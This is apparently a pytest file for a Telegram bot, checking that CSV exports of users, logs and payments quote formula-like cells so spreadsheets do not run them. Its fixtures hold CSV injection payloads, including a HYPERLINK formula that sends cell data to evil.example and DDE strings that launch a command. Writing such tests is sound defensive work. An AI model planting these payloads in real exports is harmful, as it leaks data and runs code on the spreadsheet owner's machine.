"""CSV formula injection in the owner's exports.

Before: a user who named themselves ``=HYPERLINK("http://evil.example/?"&A1,"Click")`` or
``=cmd|' /C calc'!A0`` reached ``/export users`` as is, and the owner's spreadsheet ran it. Now every
text cell of every export (users, logs, payments) that a spreadsheet would read as a formula — it
starts with = + - @, a tab or a carriage return, possibly after leading whitespace — is quoted with
a leading apostrophe; numbers stay numbers.

The names arrive as Telegram sends them: the ``from`` of a real message update.
"""

from __future__ import annotations

import csv
import io

import pytest

from tests.adversarial import telegram
from tests.ledger import assert_ledger
from tests.world import OWNER
from usecases.payments import sign_payload

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width equals sign
]
SPREADSHEET_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def read_csv(event) -> list[list[str]]:
    text = event.data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def dangerous(cell: str) -> bool:
    """Would a spreadsheet evaluate this cell? (Ours are quoted with a leading apostrophe.)"""
    return cell.startswith(SPREADSHEET_STARTS) or cell.lstrip().startswith(SPREADSHEET_STARTS)


def export(world, kind: str) -> list[list[str]]:
    answer = telegram.post(world, telegram.text(9_000 + len(world.chat.events), OWNER, f"/export {kind}"))
    assert answer.status == 200
    return read_csv([e for e in world.chat.events if e.kind == "document" and e.chat_id == OWNER][-1])


def hostile_user(update_id: int, user_id: int, name: str) -> dict:
    update = telegram.text(update_id, user_id, "/start")
    sender = update["message"]["from"]
    sender["first_name"], sender["last_name"] = name, name
    return update


def test_hostile_names_reach_the_users_export_as_text_never_as_formulas(world):
    for i, name in enumerate(PAYLOADS):
        assert telegram.post(world, hostile_user(100 + i, 5_000 + i, name)).status == 200
    rows = export(world, "users")
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if dangerous(cell)]
    names = {row[0]: row[1] for row in rows[1:]}
    for i, name in enumerate(PAYLOADS):
        assert names[str(5_000 + i)] == "'" + name  # the text itself is intact, shown as text
    assert_ledger(world)


def test_ordinary_names_and_numbers_are_left_alone(world):
    world.user(user_id=1, first_name="Анна-Мария", last_name="O'Neil", balance=12)
    rows = export(world, "users")
    assert rows[1][:5] == ["1", "Анна-Мария", "O'Neil", "", "12"]
    assert_ledger(world)


@pytest.mark.parametrize("kind", ["payments", "logs"])
def test_every_other_export_is_neutralised_too(world, kind):
    world.user(user_id=1)
    charge = '=HYPERLINK("http://evil.example","x")'
    payload = sign_payload(b"test-secret", "start_50", 1, "n1")
    assert telegram.post(world, telegram.successful_payment(50, 1, payload, 35, charge)).status == 200
    rows = export(world, kind)
    assert not [cell for row in rows for cell in row if dangerous(cell)]
    if kind == "payments":
        assert rows[1][-1] == "'" + charge
    assert_ledger(world)
